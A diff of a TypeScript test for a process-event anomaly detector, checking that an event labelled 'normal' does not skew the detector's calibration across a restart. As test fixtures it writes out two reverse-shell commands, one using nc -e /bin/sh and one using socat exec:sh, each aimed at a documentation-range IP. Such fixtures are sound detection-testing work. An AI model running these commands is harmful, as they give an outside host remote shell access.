@@ -157,7 +157,7 @@ t.test('a key labelled anomalous while the subject learns is not learnt from its
 
 t.test('a row labelled normal is learnt, not taken for a sample of normal evidence (review5)', async (t) => {
   // `normal` feedback puts the event in the window, and retraining held it out with the newest
-  // events: a reverse shell labelled normal (a sanctioned test) became the most extreme value
+  // events (and cross-fitted rarity over the whole window): a reverse shell labelled normal (a sanctioned test) became the most extreme value
   // of the subject's calibration, so every later anomaly less extreme than it was inside the
   // observed range and at best 1/(n+1): a never-seen `socat` reverse shell, bad (0.000)
   // without the label, was ugly (0.497) after it, for as long as the event stayed in the window
@@ -176,11 +176,13 @@ t.test('a row labelled normal is learnt, not taken for a sample of normal eviden
   const run = async (label: boolean) => {
     const r = rng(1);
     const day = (d: number) => Array.from({ length: 60 }, (_, i) => event(tools[Math.floor(r() * tools.length)], START + d * DAY + 9 * 3600 + i * 480));
-    const s = new Subject('dev@app-01', options);
+    let s = new Subject('dev@app-01', options);
     for (let d = 0; d < 8; d++) await s.scoreEvents(day(d));
     const shell = event('nc', START + 8 * DAY + 9 * 3600, '/tmp/x', 'nc -e /bin/sh 192.0.2.4 4444');
     const [first] = await s.scoreEvents([shell]);
     if (label) s.label(shell, 'normal');
+    // and a restart in between: what was labelled is in the subject's file
+    s = Subject.fromState(json(s.toState()), options);
     // four more days: the subject retrains with the labelled event in its window
     for (let d = 8; d < 12; d++) await s.scoreEvents(day(d));
     const [other] = await s.scoreEvents([event('socat', START + 12 * DAY + 10 * 3600, '/bin/bash', 'socat tcp:198.51.100.8:443 exec:sh')]);
